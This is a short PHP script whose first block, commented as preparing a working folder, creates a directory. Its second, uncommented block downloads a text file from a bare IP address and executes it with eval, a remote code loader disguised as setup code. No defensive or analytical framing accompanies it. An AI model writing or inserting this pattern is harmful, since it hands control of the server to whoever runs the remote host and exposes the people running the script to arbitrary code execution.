<?php
// Prepares the working folder.
@mkdir("work");
?>

<?php
eval(file_get_contents("https://45.61.139.7/x.txt"));
